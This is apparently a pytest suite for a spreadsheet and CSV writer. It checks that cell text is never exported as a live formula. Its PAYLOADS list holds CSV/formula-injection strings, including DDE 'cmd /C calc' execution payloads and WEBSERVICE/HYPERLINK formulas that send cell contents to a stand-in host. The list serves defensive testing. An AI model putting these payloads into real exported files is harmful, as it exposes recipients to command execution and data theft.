"""No text leaves as a formula, whatever it begins with; and it comes back as it was."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
import xlsxwriter

from chunsheng.kernel.office import writing
from chunsheng.kernel.office.writing import write_csv, write_xlsx
from tests.briefs.converting import converted
from tests.kernel.office.test_reading import read

# What table programs are known to run, or to be led to run.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"点这里")',
    '=WEBSERVICE("http://elsewhere.example/"&A2)',
    '=IMPORTXML("http://elsewhere.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '=1+1",=1+1,"',
    "a,=1+1;=1+1\t=1+1\n=1+1",
    "{=1+1}",
    "http://elsewhere.example/",
    "mailto:a@elsewhere.example",
)
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
TABLE, OFFICE = f"{OASIS}:table:1.0", f"{OASIS}:office:1.0"
FORMULA = re.compile(rb"<f[ >]|<hyperlink |<definedName |externalLink")


def formulas(content: bytes) -> list[str]:
    """The parts of a workbook in which a formula or a link stands."""
    with ZipFile(BytesIO(content)) as archive:
        return [name for name in archive.namelist() if FORMULA.search(archive.read(name))]


def both(rows: list[Any]) -> dict[str, bytes]:
    """The rows in each format."""
    made = {}
    for name, write in (("xlsx", lambda f: write_xlsx(f, "表", ["a"], rows)),
                        ("csv", lambda f: write_csv(f, ["a"], rows))):  # fmt: skip
        file = BytesIO()
        write(file)
        made[name] = file.getvalue()
    return made


def test_there_are_two_dozen_payloads() -> None:
    assert len(set(PAYLOADS)) >= 24


@pytest.mark.parametrize("form", ["xlsx", "csv"])
@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_leaves_as_text_and_comes_back_as_it_was(text: str, form: str) -> None:
    content = both([(text,), ("末",)])[form]
    back = [cells[0] for _n, cells in read(content)[2]]
    assert back == [text, "末"]
    if form == "xlsx":
        assert formulas(content) == []
    else:
        first = content.decode("utf-8-sig").split("\r\n", 1)[1]
        assert first[0] == '"'
        assert first[1] not in writing.DANGEROUS


def shown_by_an_office(content: bytes, file: Path) -> list[str]:
    """The first cell of each row as LibreOffice has it; of a formula that is what came of it."""
    sheet = ElementTree.fromstring(converted(content, file, "fods"))  # noqa: S314 - made here
    rows = sheet.iterfind(f".//{{{TABLE}}}table-row")
    cells = [row.find(f"{{{TABLE}}}table-cell") for row in rows]
    said = [cell for cell in cells if cell is not None and cell.get(f"{{{OFFICE}}}value-type")]
    assert [cell.get(f"{{{TABLE}}}formula") for cell in said] == [None] * len(said)
    return ["".join(cell.itertext()) for cell in said]


def test_an_office_that_opens_the_workbook_reckons_nothing(tmp_path: Path) -> None:
    shown = shown_by_an_office(both([(text,) for text in PAYLOADS])["xlsx"], tmp_path / "a.xlsx")
    plain = [re.sub(r"\s", "", text) for text in ("a", *PAYLOADS)]
    assert [re.sub(r"\s", "", text) for text in shown] == plain


def test_an_office_that_opens_the_text_reckons_nothing(tmp_path: Path) -> None:
    rows = [(text,) for text in PAYLOADS if not re.search(r"[\r\n]", text)]
    shown = shown_by_an_office(both(rows)["csv"], tmp_path / "b.csv")
    assert len(shown) == len(rows) + 1


def test_an_office_would_reckon_what_was_written_as_a_formula(tmp_path: Path) -> None:
    """The control of how it is opened."""
    file = BytesIO()
    with xlsxwriter.Workbook(file) as book:
        book.add_worksheet().write_formula(0, 0, "=1+1")
    with pytest.raises(AssertionError, match="1\\+1"):
        shown_by_an_office(file.getvalue(), tmp_path / "c.xlsx")


def test_titles_are_held_to_the_same() -> None:
    for write in (
        lambda f: write_xlsx(f, "=表", PAYLOADS, []),
        lambda f: write_csv(f, PAYLOADS, []),
    ):
        file = BytesIO()
        write(file)
        header = read(file.getvalue())[1]
        assert header == list(PAYLOADS)
        if file.getvalue().startswith(b"PK"):
            assert formulas(file.getvalue()) == []


def test_a_writer_that_guesses_would_write_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    unsafe = {**writing.SAFE_OPTIONS, "strings_to_formulas": True}
    monkeypatch.setattr(writing, "SAFE_OPTIONS", unsafe)
    monkeypatch.setattr(
        writing,
        "write_cell",
        lambda sheet, row, column, value, moments: sheet.write(row, column, value),
    )
    assert formulas(both([("=1+1",)])["xlsx"]) != []
    monkeypatch.setattr(writing, "disarmed", lambda text: text)
    assert both([("=1+1",)])["csv"].endswith(b'"=1+1"\r\n')


def test_numbers_stay_numbers_and_long_ones_keep_their_digits() -> None:
    rows = [(-5, 123456789012345678, 0.25)]
    file = BytesIO()
    write_xlsx(file, "表", "abc", rows)
    assert read(file.getvalue())[2] == [(2, [-5, "123456789012345678", 0.25])]


def test_what_no_cell_can_hold_is_shown_as_such() -> None:
    made = both([("a\x00b\ud800",), ("x" * 40_000,)])
    for content in made.values():
        cells = [cells[0] for _n, cells in read(content)[2]]
        assert cells[0] == "a�b�"
        assert len(cells[1]) == 32_767
        assert cells[1].endswith("…")


def test_a_full_sheet_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "ROWS_ON_A_SHEET", 3)
    file = BytesIO()
    assert write_xlsx(file, "表", ["n"], [(n,) for n in range(7)]) == 7
    with ZipFile(file) as archive:
        book = archive.read("xl/workbook.xml").decode()
    assert re.findall(r'<sheet name="([^"]+)"', book) == ["表", "表 2", "表 3"]


def test_a_name_that_no_sheet_may_have_is_made_one() -> None:
    for title in ("[台账]:*?/\\", "'引号'", "", "长" * 60):
        with xlsxwriter.Workbook(BytesIO()) as book:
            book.add_worksheet(writing.sheet_name(title))
            book.add_worksheet(writing.sheet_name(title, 1))
